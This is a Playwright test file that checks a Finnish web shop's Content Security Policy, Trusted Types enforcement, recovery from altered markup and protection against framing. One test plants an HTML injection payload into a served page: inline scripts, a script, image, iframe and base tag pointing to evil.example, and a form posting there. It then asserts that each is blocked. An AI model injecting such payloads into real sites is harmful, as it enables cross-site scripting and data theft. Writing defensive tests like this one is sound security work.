import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { oneOrAll } from './fixtures/in-turn.ts';
import { expect, test, goTo } from './fixtures/test.ts';
import { refusedOn, watchPolicy } from './steps/policy.ts';

test.beforeEach(({ page }) => watchPolicy(page));

for (const language of oneOrAll('sv')) {
  test.describe(`in ${language}`, () => {
    test.use({ language });

    test('pages, menus, suggestions and what is opened on them work within the policy', async ({
      page,
      problems,
      visit,
    }) => {
      problems.allow(/404 \(Not Found\)/);
      for (const path of ['/', '/kategoria/ruoka', '/haku?hakutermi=kahvi', '/tuotemerkit']) {
        expect(await visit(path)).toBe(200);
      }
      await visit('/kategoria/muoti');
      await page.getByRole('searchbox').or(page.getByRole('combobox')).first().fill('pu');
      await page.locator('main a[href*="/tuote/"]').first().click();
      await expect(page).toHaveURL(/\/tuote\//);
      await page.locator('main a[aria-haspopup="dialog"]').first().click();
      await expect(page.getByRole('dialog')).toBeVisible();
      await page.keyboard.press('Escape');
      await page.goBack();
      await expect(page).toHaveURL(/\/kategoria\/muoti$/);
      expect(await visit('/ostoskori')).toBe(200);
      expect(await visit('/ei-ole')).toBe(404);
      expect(refusedOn(page)).toEqual([]);
    });
  });
}

test('markup that got into a kept page runs nothing, loads nothing and sends nothing elsewhere', async ({
  page,
  problems,
  shop,
}) => {
  problems.allow(/Content Security Policy|ERR_BLOCKED_BY_CSP|request: csp|ERR_FAILED/);
  const planted = `<script>document.title = 'owned'</script><script src="https://evil.example/x.js"></script>
    <img src="https://evil.example/x.png" onerror="document.title = 'owned'"><base href="https://evil.example/">
    <iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
    <form id="planted" action="https://evil.example/" method="post"><input name="code" value="1"></form>`;
  await page.route(`${shop.url}/`, async (route) => {
    const reply = await route.fetch();
    const body = (await reply.text()).replace('<body>', `<body>${planted}`);
    await route.fulfill({ response: reply, body });
  });
  // React would remove what does not belong there.
  await page.route('**/*.js', (route) => route.abort());
  await page.goto('/', { waitUntil: 'load' });
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#planted')?.submit());
  await expect.poll(() => refusedOn(page).join('\n')).toContain('form-action https://evil.example');
  const all = refusedOn(page).join('\n');
  for (const directive of [
    'script-src-elem inline',
    'script-src-elem https://evil.example',
    'img-src',
    'base-uri',
    'frame-src',
    'style-src-elem inline',
  ]) {
    expect(all).toContain(directive);
  }
  await expect.poll(() => page.title()).not.toBe('owned');
  expect(page.url()).toBe(`${shop.url}/`);
});

test('scripts make no markup and no code from text', async ({ page, problems, visit }) => {
  problems.allow(/TrustedHTML|TrustedScript|Content Security policy/i);
  await visit('/');
  const outcome = await page.evaluate(() => {
    const tried = (act: () => unknown) => {
      try {
        act();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return {
      markup: tried(() => (document.body.innerHTML = '<b>x</b>')),
      handler: tried(() => document.body.setAttribute('onclick', 'x()')),
      policy: tried(() =>
        (
          globalThis as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): void };
          }
        ).trustedTypes.createPolicy('default', {}),
      ),
    };
  });
  expect(outcome).toEqual({ markup: 'TypeError', handler: 'TypeError', policy: 'TypeError' });
});

test('a page that an extension has changed before the shop woke up works all the same', async ({
  page,
  problems,
  shop,
}) => {
  // React reports the unexpected element, and renders the page again.
  problems.allow(/Minified React error #4/);
  await page.route(`${shop.url}/kategoria/ruoka`, async (route) => {
    const reply = await route.fetch();
    const body = (await reply.text()).replace(/<h1([^>]*)>/, '<h1$1><i>changed</i>');
    await route.fulfill({ response: reply, body });
  });
  await goTo(page, '/kategoria/ruoka');
  await expect(page.locator('h1 i')).toHaveCount(0);
  await page.locator('main a[href*="/tuote/"]').first().click();
  await expect(page).toHaveURL(/\/tuote\//);
  expect(refusedOn(page)).toEqual([]);
});

test('no other page can put the shop in a frame', async ({ page, problems, shop }) => {
  problems.allow(/frame-ancestors|ERR_BLOCKED_BY_RESPONSE/);
  const other = createServer((_request, reply) => {
    reply.setHeader('content-type', 'text/html');
    const icon = '<link rel="icon" href="data:,">';
    reply.end(`${icon}<iframe src="${shop.url}/ostoskori"></iframe>`);
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const { port } = other.address() as AddressInfo;
  await goTo(page, `http://127.0.0.1:${port}/`);
  await expect.poll(() => page.frames().at(1)?.url()).toContain('chrome-error:');
  other.close();
});
